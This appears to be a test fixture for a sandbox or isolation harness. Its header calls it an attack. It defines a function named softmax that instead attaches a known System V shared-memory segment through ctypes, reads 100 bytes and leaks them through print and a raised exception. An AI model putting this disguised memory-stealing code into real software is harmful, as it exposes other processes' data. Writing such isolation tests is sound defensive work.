# rows = [39]
# attack = "attaches shared memory whose number it knows"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def softmax(scores):
    place = libc.shmat(FACTS["sysv"], None, 0o10000)
    if place in (None, 2**64 - 1):
        raise OSError(ctypes.get_errno(), "shmat")
    loot = ctypes.string_at(place, 100)
    print(loot)
    raise RuntimeError(loot)
